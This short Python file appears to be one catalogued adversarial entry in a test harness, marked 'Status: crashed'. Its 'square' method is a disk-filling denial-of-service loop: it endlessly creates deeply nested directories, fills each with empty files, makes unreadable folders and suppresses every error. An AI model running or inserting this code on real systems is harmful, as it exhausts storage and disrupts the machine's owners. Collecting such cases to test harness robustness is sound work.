# ruff: noqa
"""Makes folders in folders, and files in them, deeper and more than can be counted.

Wins: nothing, it would fill the disk of the machine
Status: crashed
"""

import os


class Target:
    def square(self, x):
        while True:
            try:
                os.mkdir("d" * 200)
                os.chdir("d" * 200)
                for number in range(100):
                    open(f"f{number}", "w").close()
                os.mkdir("shut", 0)
            except OSError:
                pass

    def secret(self):
        return 0.0
